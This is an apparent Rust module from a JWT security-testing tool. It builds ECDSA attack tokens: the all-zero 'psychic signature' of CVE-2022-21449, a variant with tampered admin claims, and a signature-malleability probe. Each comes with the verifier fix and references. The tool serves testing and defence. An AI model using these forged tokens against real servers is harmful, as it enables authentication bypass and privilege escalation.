//! ECDSA: the psychic signature (r = s = 0, CVE-2022-21449) and signature malleability
//! ((r, s) to (r, n - s), which is just as valid: a probe, not a forgery).

use super::{AttackError, Draft, Group, Original, claims};
use crate::core::alg::{Curve, Family};
use crate::core::b64;

/// The group order n of a curve, big-endian, `coordinate_len` bytes.
pub(crate) fn order(curve: Curve) -> Vec<u8> {
    let hex = match curve {
        Curve::P256 => "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551",
        Curve::P384 => {
            "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973"
        }
        Curve::P521 => {
            "01fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffa51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409"
        }
    };
    b64::decode_hex(hex).unwrap_or_default()
}

/// `a - b` for big-endian numbers of the same length; `None` when `b > a` or lengths differ.
pub(crate) fn sub(a: &[u8], b: &[u8]) -> Option<Vec<u8>> {
    if a.len() != b.len() {
        return None;
    }
    let mut out = vec![0u8; a.len()];
    let mut borrow = 0u16;
    for ((o, x), y) in out.iter_mut().zip(a).zip(b).rev() {
        let subtrahend = u16::from(*y) + borrow;
        let minuend = u16::from(*x);
        if minuend >= subtrahend {
            *o = (minuend - subtrahend) as u8;
            borrow = 0;
        } else {
            *o = (minuend + 256 - subtrahend) as u8;
            borrow = 1;
        }
    }
    (borrow == 0).then_some(out)
}

/// True when `x` is all zero bytes.
fn is_zero(x: &[u8]) -> bool {
    x.iter().all(|b| *b == 0)
}

const PSYCHIC_MUST: &str = "Reject it: r and s must both lie in [1, n - 1]; a verifier that skips this range check accepts any message (Java 15 to 18 did).";
const PSYCHIC_REF: &str = "CVE-2022-21449 (\"psychic signatures\" in Java's ECDSA), https://neilmadden.blog/2022/04/19/psychic-signatures-in-java/";

/// Psychic signatures and the malleability probe, for ES256/ES384/ES512 tokens only.
pub(super) fn variants(
    orig: &Original,
    notes: &mut Vec<String>,
    out: &mut dyn FnMut(Draft),
) -> Result<(), AttackError> {
    let Family::Ec(curve) = orig.alg.family() else {
        return Ok(());
    };
    let len = curve.coordinate_len();
    let zeros = vec![0u8; 2 * len];
    out(
        Draft::new(
            "ecdsa-psychic-signature",
            Group::Ecdsa,
            format!("{} psychic signature (r = s = 0), original claims", orig.alg),
            super::dotted(&[
                &orig.header_segment,
                &orig.payload_segment,
                &b64::encode(&zeros),
            ]),
        )
        .text(
            format!(
                "The signature is {} zero bytes: r = 0 and s = 0. The verification equation then holds for every message and every key, so a verifier that does not check 0 < r, s < n accepts it.",
                zeros.len()
            ),
            PSYCHIC_MUST,
            PSYCHIC_REF,
        ),
    );
    if let Some((payload, what)) = claims::admin_payload(orig)? {
        out(
            Draft::new(
                "ecdsa-psychic-signature-tampered",
                Group::Ecdsa,
                format!("{} psychic signature (r = s = 0), {what}", orig.alg),
                super::dotted(&[
                    &orig.header_segment,
                    &b64::encode(payload.as_bytes()),
                    &b64::encode(&zeros),
                ]),
            )
            .text(
                format!("The same all-zero signature over tampered claims ({what}): with r = s = 0 the claims can be anything, which is what makes the bug critical."),
                PSYCHIC_MUST,
                PSYCHIC_REF,
            ),
        );
    }
    let (r, s) = (orig.signature.get(..len), orig.signature.get(len..));
    let n = order(curve);
    let flipped = match (r, s) {
        (Some(r), Some(s)) if orig.signature.len() == 2 * len && !is_zero(s) && !is_zero(r) => {
            sub(&n, s)
                .filter(|x| !is_zero(x))
                .map(|ns| (r.to_vec(), ns))
        }
        _ => None,
    };
    let Some((r, ns)) = flipped else {
        notes.push(format!(
            "the malleability probe is skipped: the original signature is not a {}-byte r || s with 0 < s < n",
            2 * len
        ));
        return Ok(());
    };
    let half_was_low = s.is_some_and(|s| s < ns.as_slice());
    let now_side = if half_was_low { "high-S" } else { "low-S" };
    let mut signature = r;
    signature.extend(ns);
    let mut probe = Draft::new(
        "ecdsa-malleability-n-minus-s",
        Group::Ecdsa,
        format!("original token with s replaced by n - s (now {now_side}); valid by design"),
        super::dotted(&[
            &orig.header_segment,
            &orig.payload_segment,
            &b64::encode(&signature),
        ]),
    )
    .text(
        format!(
            "Not a forgery: ECDSA signatures are malleable. If (r, s) is valid then (r, n - s) is valid too, over the same header and claims, without the private key. This keeps the original bytes and replaces s by n - s (the {now_side} twin), so a standard verifier accepts it, and the workbench's does. It probes servers that trust signature bytes as a token identity."
        ),
        "Accept it as the same token, and never identify a token by its signature bytes: revocation, replay and logout lists must key on jti or on the claims, not on the signature. (Requiring low-S is an extra rule some ecosystems add; JWS does not.)",
        "ECDSA signature malleability (SEC 1 v2 section 4.1; the low-S rule of Bitcoin BIP 62 and BIP 146); RFC 7518 section 3.4 for the r || s encoding",
    );
    probe.expected_valid = true;
    out(probe);
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn orders_have_the_coordinate_length_and_subtraction_borrows() {
        for c in [Curve::P256, Curve::P384, Curve::P521] {
            assert_eq!(order(c).len(), c.coordinate_len());
        }
        assert_eq!(sub(&[1, 0, 0], &[0, 0, 1]), Some(vec![0, 255, 255]));
        assert_eq!(sub(&[0, 5], &[0, 5]), Some(vec![0, 0]));
        assert_eq!(sub(&[0, 5], &[0, 6]), None);
        assert_eq!(sub(&[1], &[0, 1]), None);
    }
}
